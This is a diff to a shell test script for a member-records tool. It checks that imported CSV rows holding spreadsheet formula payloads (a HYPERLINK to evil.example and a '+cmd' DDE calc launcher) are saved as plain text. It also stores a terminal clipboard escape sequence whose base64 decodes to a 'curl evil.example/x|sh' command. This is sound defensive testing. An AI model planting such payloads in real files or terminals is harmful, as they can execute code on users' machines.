@@ -75,6 +75,15 @@ expect_out "and says so" "Đã chuyển các giá trị gõ bằng phông chữ 
 cn search nguyen van thu
 expect_out "then search finds it" "Nguyễn Văn Thử"
 
+# --- rejected rows are a spreadsheet too: formulas stay text ------------------------
+printf 'unit_code,full_name,birth_year\n31933,=HYPERLINK("http://evil.example/x";"Bấm vào"),nineteen\n31933,+cmd|'"'"'/C calc'"'"'!A0,1990x\n31933,Hồ Văn Mười,1980\n' \
+	>"$T/formula.csv"
+expect_ok "rows with formula-looking cells are rejected aside" import members --skip-invalid "$T/formula.csv"
+expect_eq "the formula is written as text" \
+	"$(grep -c "^31933,\"'=HYPERLINK" "$T/formula.loi.csv")" 1
+expect_eq "and the other one" "$(grep -c "^31933,'+cmd" "$T/formula.loi.csv")" 1
+expect_eq "no cell of it starts a formula" "$(tail -n +2 "$T/formula.loi.csv" | grep -cE '(^|,)"?[=+@-]')" 0
+
 # --- text already stored, printed by every command --------------------------------
 # As an older cnscd or another SQLite tool could have left it.
 sql "UPDATE member SET full_name = 'Nguyễn' || char(27) || ']52;c;Y3VybCBldmlsLmV4YW1wbGUveHxzaA==' || char(7) || ' An'
